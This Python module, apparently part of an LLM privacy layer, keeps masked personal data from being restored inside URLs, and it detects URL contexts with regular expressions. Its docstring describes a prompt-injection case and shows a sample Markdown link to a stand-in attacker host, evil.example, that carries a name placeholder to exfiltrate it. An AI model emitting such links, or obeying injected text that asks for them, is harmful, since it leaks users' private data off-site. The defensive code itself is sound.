"""Where a restored value must not go: inside a link target, an image source or any other
URL (issue 15).

The model only ever sees placeholders. If a prompt-injected answer writes
`[Open](https://evil.example/c?n=<PERSON_1>)`, restoring `<PERSON_1>` there would build a
URL carrying the real name, and one click (or an image load) would send it off-site. So a
placeholder is restored only in running text; in a URL it stays a placeholder.

`in_url_context(line_before)` decides from the text of the current line *before* the
placeholder only (the sanitized text, as the model wrote it), so a streamed answer is
judged exactly like the whole answer. It is deliberately wide: a placeholder that stays a
placeholder costs a little readability; a restored one in a URL leaks.

A placeholder is in a URL when, on its line:
- the whitespace-free run it is part of contains a URL marker: `://`, `//`, `www.`, a
  scheme such as `mailto:` or `data:`, a Markdown destination opener `](` or a
  reference-definition `]:`;
- a Markdown link or image destination `](` is still open (spaces in `<...>` targets);
- the line is a reference definition (`[ref]: https://...`);
- an HTML tag is still open (`<a href="...`, `<img src=...`): its attributes.
"""

from __future__ import annotations

import re

# Contexts that start a URL within one whitespace-free run.
_URL_IN_WORD = re.compile(
    r"://|//|www\.|\]\s*\(|\]:|"
    r"\b(?:https?|ftps?|mailto|tel|sms|data|javascript|vbscript|file|wss?|blob|about|"
    r"intent|callto|skype|news|irc|sftp|ssh|smb|git|ldap|gopher|feed)\s*:",
    re.IGNORECASE,
)
_OPEN_DESTINATION = re.compile(r"\]\s*\((?P<rest>[^)]*)\Z")
_REFERENCE_DEFINITION = re.compile(r"^\s{0,3}\[[^\]]*\]:")
# "<tag" (a letter after "<", so never a placeholder's end or "a < b") not yet closed.
_OPEN_TAG = re.compile(r"<[A-Za-z!/][^<>]*\Z")
_WHITESPACE = re.compile(r"\s")
_LAST_WORD = re.compile(r"\S*\Z")
# A line longer than this is judged on its tail; a tail without any whitespace is a URL.
MAX_CONTEXT = 4000


def current_word(line_before: str) -> str:
    """The whitespace-free run at the end of `line_before`."""
    return _LAST_WORD.search(line_before).group(0)  # type: ignore[union-attr]


def in_url_context(line_before: str) -> bool:
    """Whether a placeholder right after `line_before` (its line so far) is part of a URL."""
    truncated = len(line_before) > MAX_CONTEXT
    line = line_before[-MAX_CONTEXT:]
    word = current_word(line)
    if truncated and not _WHITESPACE.search(line):
        return True
    if _URL_IN_WORD.search(word):
        return True
    if _OPEN_DESTINATION.search(line):
        return True
    if _REFERENCE_DEFINITION.match(line):
        return True
    return bool(_OPEN_TAG.search(_without_placeholders(line)))


_PLACEHOLDER = re.compile(r"<[A-Z][A-Z0-9_]*_[0-9]+>")


def _without_placeholders(line: str) -> str:
    # Earlier placeholders on the line are closed "<...>" pairs, not tags.
    return _PLACEHOLDER.sub("", line)


def line_before(text: str, position: int, carried: str = "") -> str:
    """The line of `text` up to `position`; `carried` is the line's text before `text`
    began (a stream's earlier deltas)."""
    start = text.rfind("\n", 0, position) + 1
    if start:
        return text[start:position]
    return carried + text[:position]


def carry(text: str, carried: str = "") -> str:
    """The current line after `text`, bounded: what `line_before` needs next time."""
    newline = text.rfind("\n")
    rest = text[newline + 1 :] if newline != -1 else carried + text
    return rest[-(MAX_CONTEXT + 1) :]
